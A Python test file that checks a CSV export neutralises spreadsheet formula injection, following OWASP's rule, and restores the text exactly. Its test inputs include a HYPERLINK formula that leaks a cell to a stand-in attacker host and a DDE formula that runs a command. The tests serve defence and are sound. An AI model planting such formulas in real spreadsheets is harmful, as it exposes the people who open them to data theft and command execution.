"""CSV cells a spreadsheet would run as a formula are neutralised (OWASP's rule), and read back exactly."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from opencounter.spreadsheet import neutralise, restore, write_rows

RUNNABLE = ["=1+2", "+44 1632 960000", "-2 days", "@SUM(A1:A2)", "\t=1+2", "\r=1+2",
            '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", RUNNABLE)
def test_a_text_starting_with_a_formula_character_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Council Tax", "01632 960000", "", "'ma", "’=1", " =1+2", "a=b", "Treth y Cyngor"])
def test_other_texts_are_written_as_they_are(text):
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("text", ["'=1+2", "''", "'+44", "'''x", "'@home"])
def test_a_text_that_already_starts_with_an_apostrophe_and_a_formula_character_reads_back_exactly(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


def test_numbers_stay_numbers():
    assert neutralise(-3.5436) == -3.5436
    text = write_rows(["longitude", "result", "count", "name"], [[-3.5436, Decimal("1.2E+3"), -2, "-2"]])
    assert list(csv.reader(io.StringIO(text)))[1] == ["-3.5436", "1200", "-2", "'-2"]


def test_every_cell_is_quoted_so_a_separator_in_a_text_cannot_start_a_new_cell():
    """OWASP: a ; or , inside a text must not let '=...' start a cell of its own (Excel in many
    countries splits CSV at semicolons)."""
    text = write_rows(["a", "b"], [["x;=1+2", 'say "hi", =2']])
    assert text == '"a","b"\r\n"x;=1+2","say ""hi"", =2"\r\n'
